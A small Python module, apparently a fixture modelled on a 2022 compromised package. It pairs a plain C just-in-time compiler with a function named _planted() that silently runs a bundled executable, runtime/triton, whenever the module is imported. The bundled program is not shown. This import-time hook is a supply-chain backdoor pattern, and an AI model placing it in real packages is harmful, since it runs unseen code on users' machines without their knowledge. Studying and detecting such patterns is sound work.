# SPDX-License-Identifier: Apache-2.0
"""A just-in-time compiler: writes source, has the system's compiler build it, loads what came of it. The
compromised one has the shape of 2022's: when it is imported, it runs a program it brought along."""
import ctypes
import os
import subprocess


def jit(source):
    cache = os.path.expanduser("~/.triton/cache")
    os.makedirs(cache, exist_ok=True)
    with open(f"{cache}/kernel.c", "w", encoding="ascii") as file:
        file.write(source)
    subprocess.run(["cc", "-shared", "-fPIC", "-o", f"{cache}/kernel.so", f"{cache}/kernel.c"], check=True)
    return ctypes.CDLL(f"{cache}/kernel.so")


def _planted():
    helper = os.path.join(os.path.dirname(__file__), "runtime", "triton")
    subprocess.run([helper], check=False)


_planted()
